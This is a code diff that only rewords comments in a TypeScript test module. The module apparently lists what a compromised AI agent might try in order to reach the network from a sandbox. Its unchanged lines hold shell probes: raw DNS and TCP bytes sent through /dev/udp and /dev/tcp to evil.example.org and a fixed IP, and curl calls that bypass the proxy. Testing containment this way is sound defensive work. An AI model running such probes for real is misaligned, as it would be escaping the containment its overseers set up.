@@ -1,19 +1,19 @@
-/** What a compromised agent tries of the network. How attempts are written: attack-attempts.ts. */
+/** What a compromised agent tries on the network. For the format of attempts, see attack-attempts.ts. */
 export type Tries = Readonly<Record<string, string | readonly [script: string, harmless: string, listed?: string]>>;
 
-/** Waits for what another process does. */
+/** Waits until another process has done something. */
 export const soon = (act: string): string => `for i in $(seq 1200); do ${act} && exit 0; sleep 0.1; done; exit 1`;
 
 export const OPEN = 'the network is open';
 const DIRECTLY = "curl -s -m20 --noproxy '*'";
-/** Where there is a proxy; otherwise the same without one. */
+/** Uses the proxy if there is one. */
 const BY_PROXY = 'curl -s -m20 ${https_proxy:+-x $https_proxy}';
-/** A question for the address of evil.example.org, byte by byte. */
+/** A raw DNS query for the address of evil.example.org. */
 const ASK_NAME_SERVER = String.raw`exec 3<>/dev/udp/93.184.216.34/53
 printf '\0\1\1\0\0\1\0\0\0\0\0\0\4evil\7example\3org\0\0\1\0\1' >&3
 timeout 20 head -c 30 <&3 | grep -q evil`;
 
-/** Says something to the proxy, byte by byte; where there is none, to the server itself. */
+/** Sends raw bytes to the proxy, or to the server itself if there is no proxy. */
 const speak = (text: string): string => `to=\${http_proxy:-http://93.184.216.34:80}; to=\${to#http://}
 exec 3<>/dev/tcp/\${to/:/\/}; printf '${text}' >&3; timeout 20 cat <&3 | grep -aq 'secret evil'`;
 
@@ -89,7 +89,7 @@ export const NETWORK: Tries = {
   ),
 };
 
-/** In an open network it is one of everything. */
+/** On an open network, it is one of the attempts that may succeed. */
 function listed(script: string, why: string): readonly [script: string, harmless: string, listed: string] {
   return [script, OPEN, why];
 }
